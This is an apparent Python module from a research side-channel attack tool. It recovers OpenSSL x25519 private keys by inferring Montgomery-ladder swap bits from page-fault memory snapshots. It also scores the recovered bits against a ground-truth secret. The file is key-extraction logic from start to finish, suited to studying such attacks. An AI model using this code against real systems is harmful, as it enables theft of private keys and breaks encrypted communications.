"""Montgomery ladder swap-bit recovery for OpenSSL's x25519 scalar multiplication.

The ladder walks the scalar from bit 254 down to bit 0 and conditionally
swaps its working registers whenever the current bit differs from the
previous one. A swap shows up as a change of the working buffer between the
snapshot taken on the ladder page before the swap and the one taken on the
field arithmetic page after it.

Bit lists are little endian: index i holds bit i of the scalar.
"""

from __future__ import annotations

import logging
from typing import Iterable, Iterator, Sequence

from pagefault_cracker.analysis.offsets import updated_offsets, window_changed
from pagefault_cracker.utils.constants import ECDH_SCALAR_BITS, OPENSSL_SECRET_MARKER
from pagefault_cracker.utils.errors import MissingDataError, ParseError
from pagefault_cracker.utils.types import EcdhAttackConfig, EcdhLayout, FaultEvent, on_same_page

logger = logging.getLogger(__name__)


def split_streams(
    events: Sequence[FaultEvent],
    config: EcdhAttackConfig,
) -> tuple[list[FaultEvent], list[FaultEvent]]:
    """Drop the warm-up events and split the rest into (base page, second page) streams.

    Everything before the second fault on the field arithmetic page is
    discarded.
    """
    start = len(events)
    hits = 0
    for i, event in enumerate(events):
        if event.faulted_gpa == config.fe64_gpa:
            hits += 1
            if hits >= 2:
                start = i
                break
    for event in events[:start]:
        logger.debug("discarding %s", event)

    kept = events[start:]
    base = [e for e in kept if on_same_page(e.faulted_gpa, config.base_gpa)]
    second = [e for e in kept if on_same_page(e.faulted_gpa, config.fe64_gpa)]
    return base, second


def iteration_snapshots(
    base: Sequence[FaultEvent],
    second: Sequence[FaultEvent],
    layout: EcdhLayout,
) -> Iterator[tuple[int, bytes, bytes]]:
    """Yield ``(bit, before, after)`` for every observed ladder iteration, highest bit first."""
    base_idx = layout.base_index_init
    second_idx = layout.second_index_init
    for bit in range(layout.iterations - 1 - layout.unknown_high_bits, -1, -1):
        base_idx += layout.base_delta_a
        before = _content_at(base, base_idx, "base", bit)
        after = _content_at(second, second_idx, "second", bit)
        yield bit, before, after
        base_idx += layout.base_delta_b
        second_idx += layout.second_delta


def _content_at(stream: Sequence[FaultEvent], idx: int, name: str, bit: int) -> bytes:
    if idx >= len(stream):
        raise MissingDataError(
            f"at bit {bit}, {name} stream index {idx} is out of bounds ({len(stream)} events)"
        )
    return stream[idx].require_content()


def swap_candidate_offsets(
    base: Sequence[FaultEvent],
    second: Sequence[FaultEvent],
    layout: EcdhLayout,
) -> set[int]:
    offsets: set[int] = set()
    for _, before, after in iteration_snapshots(base, second, layout):
        offsets.update(updated_offsets(before, after, layout.block_bytes, layout.block_bytes))
    return offsets


def recover_swap_bits(
    offset: int,
    base: Sequence[FaultEvent],
    second: Sequence[FaultEvent],
    layout: EcdhLayout,
) -> list[int]:
    """Swap bit per ladder iteration at ``offset``: 1 if the block changed.

    Always returns the full 255 swap positions. Unobserved high iterations
    and positions above a short ladder are left as 0.
    """
    swaps = [0] * (ECDH_SCALAR_BITS - 1)
    for bit, before, after in iteration_snapshots(base, second, layout):
        if window_changed(before, after, offset, layout.block_bytes):
            swaps[bit] = 1
    return swaps


def scalar_from_swaps(swaps: Sequence[int]) -> list[int]:
    """Unroll the ladder's swap state into the 256 scalar bits.

    Bit 255 is always clear for a clamped scalar, so bit i is the XOR of the
    swap at i with bit i + 1.
    """
    if len(swaps) != ECDH_SCALAR_BITS - 1:
        raise ValueError(f"expected {ECDH_SCALAR_BITS - 1} swap bits, got {len(swaps)}")
    bits = [0] * ECDH_SCALAR_BITS
    for i in range(ECDH_SCALAR_BITS - 2, -1, -1):
        bits[i] = bits[i + 1] ^ swaps[i]
    return bits


def swaps_from_scalar(bits: Sequence[int]) -> list[int]:
    """Swap sequence the ladder produces for ``bits``."""
    if len(bits) != ECDH_SCALAR_BITS:
        raise ValueError(f"expected {ECDH_SCALAR_BITS} scalar bits, got {len(bits)}")
    return [bits[i] ^ bits[i + 1] for i in range(ECDH_SCALAR_BITS - 1)]


def clamp_scalar_bits(bits: Sequence[int]) -> list[int]:
    """x25519 clamping: clear bits 0-2 and 255, set bit 254."""
    if len(bits) != ECDH_SCALAR_BITS:
        raise ValueError(f"expected {ECDH_SCALAR_BITS} scalar bits, got {len(bits)}")
    clamped = list(bits)
    clamped[0] = clamped[1] = clamped[2] = 0
    clamped[255] = 0
    clamped[254] = 1
    return clamped


def scalar_to_bits(data: bytes) -> list[int]:
    return [(byte >> i) & 1 for byte in data for i in range(8)]


def bits_to_scalar(bits: Sequence[int]) -> bytes:
    if len(bits) % 8:
        raise ValueError("bit count must be a multiple of 8")
    out = bytearray(len(bits) // 8)
    for i, bit in enumerate(bits):
        if bit:
            out[i // 8] |= 1 << (i % 8)
    return bytes(out)


def parse_openssl_secret(lines: Iterable[str]) -> list[int]:
    """Bits of the ground-truth key from a ``secretFromOpenSSL AA:BB:..`` line.

    The last such line wins.
    """
    value = None
    for line in lines:
        line = line.strip()
        if not line.startswith(OPENSSL_SECRET_MARKER):
            continue
        tokens = line.split(" ")
        if len(tokens) != 2:
            raise ParseError(f"secret line has {len(tokens)} tokens instead of 2")
        value = tokens[1]
    if value is None:
        raise ParseError(f"did not find {OPENSSL_SECRET_MARKER!r} marker")
    try:
        secret = bytes.fromhex(value.replace(":", ""))
    except ValueError as exc:
        raise ParseError(f"cannot decode secret as hex: {exc}") from exc
    return scalar_to_bits(secret)


def mismatch_count(a: Sequence[int], b: Sequence[int], limit: int | None = None) -> int:
    """Number of positions where the bit lists differ, stopping at ``limit``."""
    count = 0
    for x, y in zip(a, b):
        if x != y:
            count += 1
            if limit is not None and count >= limit:
                break
    return count
